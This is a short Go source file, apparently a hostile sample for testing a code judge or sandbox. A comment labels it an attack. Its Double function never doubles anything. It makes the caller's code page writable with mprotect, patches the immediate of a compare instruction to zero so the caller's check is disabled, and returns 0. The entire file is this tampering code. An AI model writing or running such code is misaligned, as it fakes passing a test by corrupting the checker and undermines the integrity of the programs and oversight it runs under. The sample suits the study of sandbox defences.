// attack: makes the code of the caller writable and turns its comparison off
package double

import (
	"runtime"
	"syscall"
	"unsafe"
)

func Double(number int) int {
	at, _, _, _ := runtime.Caller(1)
	page := at &^ 4095
	syscall.Syscall(syscall.SYS_MPROTECT, page, 8192, 7)
	for i := uintptr(0); i < 40; i++ {
		code := (*[4]byte)(unsafe.Pointer(at + i))
		if code[0] == 0x48 && code[1] == 0x83 && code[2] == 0xf8 {
			code[3] = 0
			return 0
		}
	}
	return 0
}
